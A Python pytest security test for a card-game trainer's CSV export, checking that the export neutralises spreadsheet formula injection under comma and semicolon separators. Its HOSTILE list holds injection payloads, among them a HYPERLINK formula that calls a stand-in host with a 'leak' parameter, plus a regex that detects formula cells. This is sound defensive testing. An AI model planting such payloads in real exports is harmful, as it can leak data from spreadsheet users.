"""A CSV download runs no formula in a spreadsheet, whichever list separator the spreadsheet
reads it with: ``,``, or ``;`` as Excel does with Dutch settings, where an unquoted
``Anna;=1+2`` is the name ``Anna`` and then the formula ``=1+2`` (OWASP: CSV injection)."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from klaverjas_trainer.app.export import csv_bytes, headers
from klaverjas_trainer.texts import language

pytestmark = pytest.mark.security  # the trust probes (issue 15)

HOSTILE = [
    "Anna;=1+2",
    'Bob,=HYPERLINK("http://example.invalid/?leak","open me")',
    " =1+1",
    '"=1"',
    "Eve; @SUM(A1)",
    'Dirk;"+1"',
    "Fem,-2+3",
    "\t=1",
    "\r=1",
    "Gijs\n=1",
    "Ids\r\n=1",
    "Hans;\t=1",
]

#: A spreadsheet runs a cell as a formula if it starts with one of = + - @ (past spaces and
#: double quotes) or with a tab or carriage return; a number such as -5 is only a number.
RUNS: re.Pattern[str] = re.compile(r'[\t\r]|[\s"]*[=+\-@]')


def runs_as_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return RUNS.match(cell) is not None
    return False


def exported() -> str:
    answers = pd.DataFrame(
        {
            "learner": HOSTILE,
            "answered_at": ["2026-01-05 10:00:00"] * len(HOSTILE),
            "kind": ["which-cards"] * len(HOSTILE),
            "given": HOSTILE,
            "correct": [True] * len(HOSTILE),
            "seconds": [-5] * len(HOSTILE),  # a number stays a number
        }
    )
    with language("nl"):
        return csv_bytes(answers, headers(answers.columns)).decode("utf-8")


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_runs_as_a_formula_with_either_separator(separator: str) -> None:
    rows = list(csv.reader(io.StringIO(exported(), newline=""), delimiter=separator))
    assert len(rows) > len(HOSTILE)
    formulas = [cell for row in rows for cell in row if runs_as_formula(cell)]
    assert formulas == []


def test_a_cell_with_either_separator_is_quoted_and_keeps_its_text_after_the_quote_mark() -> None:
    lines = exported().splitlines()
    assert lines[1].startswith('"Anna;\'=1+2",')  # quoted, so `;` does not split it either
    rows = list(csv.reader(io.StringIO(exported(), newline="")))
    names = [row[0] for row in rows[1:]]
    assert names[:4] == [
        "Anna;'=1+2",
        'Bob,\'=HYPERLINK("http://example.invalid/?leak","open me")',
        "' =1+1",
        '\'"=1"',
    ]
    assert {row[-1] for row in rows[1:]} == {"-5"}  # unquoted: the spreadsheet's number -5
